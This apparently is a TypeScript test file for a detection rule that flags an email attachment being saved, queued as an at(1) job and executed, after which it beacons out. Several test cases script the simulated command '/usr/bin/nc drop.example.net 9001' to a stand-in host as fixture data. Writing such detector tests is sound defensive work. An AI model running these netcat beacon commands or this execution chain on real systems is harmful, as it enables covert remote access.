import { test } from 'node:test';
import type { Process } from './audit-records.test-support.ts';
import { HOUR, HostLog, MINUTE, SECOND } from './host-log.test-support.ts';
import { atMostAt, firesAt, inOrder, scanLog } from './stories.test-support.ts';

/** at(1) keeps a copy of what it is given, and atd(8) starts a shell on it: no record shows the copy being read. */

const BEACON = '203.0.113.67';
const JOBS = '/var/spool/cron/atjobs';

/** An attachment that a clerk saved, and a shell of his. */
function saved(): { log: HostLog; shell: Process } {
  const log = new HostLog();
  const message = log.deliver();
  log.wait(MINUTE);
  const shell = log.shell('clerk');
  shell.run('/usr/bin/mutt').read(message.path).write('/home/clerk/list');
  log.wait(10 * SECOND);
  return { log, shell };
}

/** at(1) is given a file: it counts the job, makes it and then reads what it holds. */
function handed(shell: Process, name: string, file: string): Process {
  const at = shell.run(`/usr/bin/at -f ${file} now`);
  return at.read(`${JOBS}/.SEQ`).write(`${JOBS}/.SEQ`).write(`${JOBS}/${name}`).read(`/home/clerk/${file}`);
}

test('a job made of an attachment is the attachment, run', async () => {
  const { log, shell } = saved();
  handed(shell, 'a0000101c89474', 'list');
  log.at('clerk', 'a0000101c89474').run('/usr/bin/nc drop.example.net 9001').connect(BEACON, 9001);
  inOrder(firesAt(await scanLog(log), 'AN0656', 'high'), [
    ['file.created', 'list'],
    ['file.linked', 'a0000101c89474'],
    ['content.executed', 'standard input'],
    ['network.connected', BEACON],
  ]);
});

test('and hours later too', async () => {
  const { log, shell } = saved();
  handed(shell, 'a0000101c89474', 'list');
  log.wait(5 * HOUR);
  log.at('clerk', 'a0000101c89474').run('/usr/bin/nc drop.example.net 9001').connect(BEACON, 9001);
  firesAt(await scanLog(log), 'AN0656', 'high');
});

test('the next job of the host is another one, though both were counted in one file', async () => {
  const { log, shell } = saved();
  handed(shell, 'a0000101c89474', 'list');
  log.wait(10 * SECOND);
  handed(shell, 'a0000201c89475', 'own');
  log.wait(MINUTE);
  log.at('clerk', 'a0000201c89475').run('/usr/bin/nc drop.example.net 9001').connect(BEACON, 9001);
  atMostAt(await scanLog(log), 'informational');
});

test('of two jobs taken in hand at once each is known by what it prints into', async () => {
  const { log, shell } = saved();
  handed(shell, 'a0000101c89474', 'list');
  log.wait(10 * SECOND);
  handed(shell, 'a0000201c89475', 'own');
  log.at('clerk', 'a0000101c89474').run('/usr/bin/date');
  log.at('clerk', 'a0000201c89475').run('/usr/bin/nc drop.example.net 9001').connect(BEACON, 9001);
  atMostAt(await scanLog(log), 'medium');
});
